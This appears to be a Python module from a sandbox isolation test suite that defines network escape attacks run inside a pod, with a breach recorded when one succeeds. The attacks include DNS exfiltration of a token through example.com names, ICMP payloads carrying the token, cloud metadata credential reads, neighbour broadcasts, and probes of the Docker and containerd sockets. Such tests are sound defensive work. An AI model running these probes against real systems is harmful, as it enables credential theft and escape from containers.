"""Getting data out over any kind of network. The canary, the machine's listener and the neighbour hear
nothing.

Programs try from inside of the pod, and each success is a breach. But a packet that is sent without an error
proves nothing, so who hears it is looked at from outside as well. Address families are given by number, since
Python may lack their names.
"""

from __future__ import annotations

from sandbox.attacks.attack import Attack

# The listeners count, not the sender: whether a packet left cannot be seen from inside the pod.
_HEARD = "canary on the routed network, listener on the machine and neighbour job hear nothing"


def _network_attack(name: str, tries: str, script: str) -> Attack:
    """Return an attack that must end well without any success; ``settle`` reports what got through."""
    return Attack(f"network-{name}", "network", tries, script + "\nsettle()\n", _HEARD)


ATTACKS = (
    # TARGETS answer elsewhere in the box (canary, services, the machine's listener), so their silence is the
    # isolation's doing. The public addresses may be silent for other reasons.
    _network_attack(
        "tcp",
        "connect to canary, API server, kubelet, DNS, services, machine and public addresses",
        """
PUBLIC = ["1.1.1.1:443", "8.8.8.8:53", "93.184.215.14:80", "127.0.0.1:10250", "127.0.0.1:6443"]
many(lambda target: attempt(f"tcp {target}", dial, target), TARGETS + PUBLIC)
""",
    ),
    # A datagram sent without an error proves nothing, so only an answer is a breach. The plain sends at the
    # end are for the listeners to hear.
    _network_attack(
        "udp",
        "send datagrams there, answered or not",
        """
many(lambda target: attempt(f"udp {target}", dial, target, socket.SOCK_DGRAM), TARGETS + ["8.8.8.8:53"])
for target in TARGETS:
    for _ in range(5):
        try:
            dial(target, socket.SOCK_DGRAM, 0.1, False)
        except OSError:
            pass
""",
    ),
    # A resolver asks further servers: data leaves in the labels of a name, although no connection is allowed.
    _network_attack(
        "dns",
        "carry data out in names: through the resolver, over UDP, over TCP",
        """
for name in ("kubernetes.default.svc.cluster.local", "example.com", TOKEN.decode()[4:].replace(":", "-") + ".example.com"):
    attempt(f"resolve {name}", socket.getaddrinfo, name, 80)
query = struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + b"\\x07example\\x03com\\0\\0\\1\\0\\1"
servers = [target.rpartition(":")[0] for target in TARGETS if target.endswith(":53")] + ["8.8.8.8", "127.0.0.1", "127.0.0.53"]
def ask(server):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(1)
        s.sendto(query, (server, 53))
        return s.recv(512)
for server in servers:
    attempt(f"dns udp {server}", ask, server)
    attempt(f"dns tcp {server}", dial, f"{server}:53")
""",
    ),
    # Rules for IPv4 do not hold for IPv6, and each link has link-local addresses without being configured.
    _network_attack(
        "ipv6",
        "leave over IPv6: global, link-local, multicast, mapped IPv4",
        """
links = [name for _, name in socket.if_nameindex() if name != "lo"]
near = [f"[{a}%{link}]:{p}" for link in links for a in ("fe80::1", "ff02::1", "ff02::2", "ff02::fb") for p in (53, 6443, 7007)]
far = ["[2606:4700:4700::1111]:443", "[fd00:ec2::254]:80", "[fd00::1]:7007"]
mapped = ["[::ffff:%s]:%s" % tuple(t.rsplit(":", 1)) for t in TARGETS]
many(lambda target: attempt(f"tcp6 {target}", dial, target), near + far + mapped)
def sent(target):
    dial(target, socket.SOCK_DGRAM, 0.3, False)
    return "sent"
# That the pod's own kernel takes a datagram is no way out: who hears it is what counts, and is looked at from outside.
for target in near + far:
    try:
        sent(target)
    except OSError as problem:
        print(target, problem)
many(lambda target: attempt(f"udp6 {target}", dial, target, socket.SOCK_DGRAM), near + far)
""",
    ),
    # Raw sockets need a capability that container engines grant by default. ICMP by datagram sockets needs
    # none.
    _network_attack(
        "raw",
        "raw and packet sockets, ICMP, forged frames",
        """
for family, kind, protocol in ((socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP), (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW),
                               (socket.AF_INET6, socket.SOCK_RAW, 58), (socket.AF_PACKET, socket.SOCK_RAW, 0x0300), (socket.AF_PACKET, socket.SOCK_DGRAM, 0x0300)):
    attempt(f"socket {family} {kind} {protocol}", socket.socket, family, kind, protocol)
def ping():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as s:
        s.settimeout(1)
        s.connect((TARGETS[0].rpartition(":")[0], 0))
        s.send(b"\\x08\\0\\0\\0\\0\\1\\0\\1" + TOKEN)
        return s.recv(200)
attempt("ping", ping)
""",
    ),
    # Clouds serve the node's credentials at fixed addresses to whoever asks from the node's network.
    _network_attack(
        "metadata",
        "read the cloud's metadata service",
        """
import urllib.request
for host in ("169.254.169.254", "[fd00:ec2::254]", "100.100.100.200", "192.0.0.192", "metadata.google.internal"):
    attempt(host, lambda: urllib.request.urlopen(f"http://{host}/latest/meta-data/", timeout=1).read(100))
""",
    ),
    # The victim listens on port 7007 of every address it has; pods of one node have neighbouring addresses.
    _network_attack(
        "neighbours",
        "talk to other jobs on the same link: broadcast, multicast, every address of the network",
        """
import ipaddress
own = [line.split()[0] for line in open("/etc/hosts") if line.split()[1:2] == [socket.gethostname()]]
nets = set()
for line in open("/proc/net/route").read().splitlines()[1:]:
    f = line.split()
    mask, net = (struct.unpack("<L", bytes.fromhex(f[i]))[0] for i in (7, 1))
    if f[7] != "00000000":
        nets.add(ipaddress.ip_network((socket.inet_ntoa(bytes.fromhex(f[1])[::-1]), socket.inet_ntoa(bytes.fromhex(f[7])[::-1])), strict=False))
def shout(address):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        s.sendto(TOKEN, (address, 7007))
for address in ["255.255.255.255", "224.0.0.1", "224.0.0.251"] + [str(net.broadcast_address) for net in nets]:
    try:
        shout(address)
    except OSError as problem:
        print(address, problem)
near = []
for net in nets:
    first = max(int(net.network_address), int(ipaddress.ip_address((own or ["0.0.0.0"])[0])) - 40)
    near += [str(ipaddress.ip_address(n)) for n in range(first, min(first + 80, int(net.broadcast_address))) if str(ipaddress.ip_address(n)) not in own]
print(len(near), "addresses near")
many(lambda host: attempt(f"tcp {host}", dial, f"{host}:7007", socket.SOCK_STREAM, 0.3), near)
many(lambda host: attempt(f"udp {host}", dial, f"{host}:7007", socket.SOCK_DGRAM, 0.2), near)
""",
    ),
    # Each is a protocol of its own, which rules for TCP and UDP do not mention, or a way into the kernel.
    _network_attack(
        "families",
        "transports that filters forget: SCTP, DCCP, vsock, TIPC, CAN, Bluetooth, AF_ALG, RDS, netlink",
        """
host, _, port = TARGETS[0].rpartition(":")
def protocol(kind, number):
    with socket.socket(socket.AF_INET, kind, number) as s:
        s.settimeout(0.5)
        s.connect((host, int(port)))
        return "connected"
for name, kind, number in (("sctp", socket.SOCK_STREAM, 132), ("sctp", socket.SOCK_SEQPACKET, 132), ("dccp", 6, 33), ("udplite", socket.SOCK_DGRAM, 136)):
    if name != "udplite":
        attempt(name, protocol, kind, number)
def udplite():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136) as s:
        s.settimeout(0.5)
        s.connect((host, int(port)))
        s.send(TOKEN)
        return s.recv(64)
attempt("udplite", udplite)
def vsock():
    with socket.socket(40, socket.SOCK_STREAM) as s:
        s.settimeout(0.5)
        s.connect((2, 1024))
        return "connected"
attempt("vsock", vsock)
# That the kernel makes such a socket in this pod's own network is no way out; a peer or a device that answers is.
def over(family, kind, address, number=0):
    with socket.socket(family, kind, number) as s:
        s.settimeout(0.5)
        libc_address = ctypes.create_string_buffer(address, len(address))
        if libc.connect(s.fileno(), libc_address, len(address)) != 0:
            raise OSError(ctypes.get_errno(), "connect")
        s.send(TOKEN)
        return s.recv(64)
inet = struct.pack("<H", 2) + struct.pack(">H", int(port)) + socket.inet_aton(host) + bytes(8)
attempt("rds", over, 21, 5, inet)
attempt("smc", over, 43, 1, inet)
attempt("tipc: the topology server", over, 30, 5, struct.pack("<HBbIII", 30, 2, 2, 1, 1, 0))
attempt("can: any device", over, 29, 3, struct.pack("<Hi16x", 29, 0), 1)
attempt("bluetooth: any device", over, 31, 5, struct.pack("<HH6sBB", 31, 1, bytes(6), 0, 0), 0)
attempt("nfc", over, 39, 5, struct.pack("<HIIII64sQ", 39, 0, 0, 1, 0, bytes(64), 0))
# These concern more than the pod's own network: none may be had at all.
for name, family, kind, number in (("key", 15, 3, 2), ("alg", 38, 5, 0), ("vsock datagrams", 40, 2, 0), ("bluetooth control", 31, 3, 1), ("xdp", 44, 3, 0)):
    def had():
        with socket.socket(family, kind, number) as s:
            if name == "alg":
                s.bind(("hash", "sha256"))
            if name == "xdp":
                s.setsockopt(283, 4, struct.pack("<QQIII4x", 0, 1 << 16, 4096, 0, 0))
            return "made"
    attempt(name, had)
# Netlink: reading one's own network is fine; asking the kernel to change or tell more is not.
def told(protocol, kind, body=b"", flags=5):
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol) as s:
        s.settimeout(1)
        s.send(struct.pack("<IHHII", 16 + len(body), kind, flags, 1, 0) + body)
        answer = s.recv(65536)
        kind_said, code = struct.unpack_from("<H", answer, 4)[0], struct.unpack_from("<i", answer, 16)[0] if len(answer) >= 20 else 0
        if kind_said == 2 and code:
            raise OSError(-code, "refused")
        return (kind_said, code)
attempt("netlink audit: status", told, 9, 1000)
attempt("netlink audit: log a line", told, 9, 1100, TOKEN)
attempt("netlink xfrm: flush", told, 6, 0x1c, bytes(8))
attempt("netlink netfilter: new table", told, 12, (10 << 8), struct.pack("<BBH", 2, 0, 0) + struct.pack("<HH", 8, 1) + b"c2d\\0")
attempt("netlink route: new link", told, 0, 16, bytes(16) + struct.pack("<HH", 8, 3) + b"c2d\\0", 0x605)
attempt("netlink route: a neighbour", told, 0, 28, struct.pack("<BxxxiHBB", 2, 1, 2, 0, 0), 0x605)
attempt("netlink scsi", told, 18, 16)
attempt("netlink crypto: report", told, 21, 16, bytes(160))
""",
    ),
    # Needs CAP_NET_ADMIN, which a network or user namespace of one's own would give.
    _network_attack(
        "links",
        "change the network: addresses, routes, links, tunnels, a namespace of one's own",
        """
import fcntl
name = next((n for _, n in socket.if_nameindex() if n != "lo"), "eth0").encode()
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
address = struct.pack("16sH2x4s8x", name, socket.AF_INET, socket.inet_aton("198.18.0.9"))
attempt("set address", fcntl.ioctl, s, 0x8916, address)
attempt("set flags", fcntl.ioctl, s, 0x8914, struct.pack("16sh22x", name, 0x1103))
attempt("set hardware address", fcntl.ioctl, s, 0x8924, struct.pack("16sH14s8x", name, 1, b"\\2\\0\\0\\0\\0\\7"))
route = struct.pack("<IHHIIBBBBBBBBI", 0, 24, 0x405, 1, 0, 2, 0, 0, 0, 254, 3, 0, 1, 0) + struct.pack("<HHI", 8, 4, 2)
route = struct.pack("<I", len(route)) + route[4:]
def add_route():
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as n:
        n.send(route)
        code = struct.unpack_from("<i", n.recv(1024), 16)[0]
        if code:
            raise OSError(-code, "refused")
        return "added"
attempt("add route", add_route)
attempt("tun", os.open, "/dev/net/tun", os.O_RDWR)
attempt("own network", syscall, "unshare", 0x40000000)
""",
    ),
    # Abstract sockets belong to the network namespace, not to the file system: no mount hides them.
    _network_attack(
        "sockets",
        "sockets of others: abstract ones, container runtimes', Docker's",
        """
for path in ("/run/containerd/containerd.sock", "/var/run/docker.sock", "/run/crio/crio.sock", "/var/lib/kubelet/device-plugins/kubelet.sock", "/run/systemd/private", "/run/dbus/system_bus_socket"):
    def connect():
        with socket.socket(socket.AF_UNIX) as s:
            s.connect(path)
            return "connected"
    attempt(path, connect)
for line in open("/proc/net/unix").read().splitlines()[1:]:
    name = line.split()[-1]
    if name.startswith("@"):
        def abstract():
            with socket.socket(socket.AF_UNIX) as s:
                s.connect(b"\\0" + name[1:].encode())
                return "connected"
        attempt(name, abstract)
""",
    ),
)
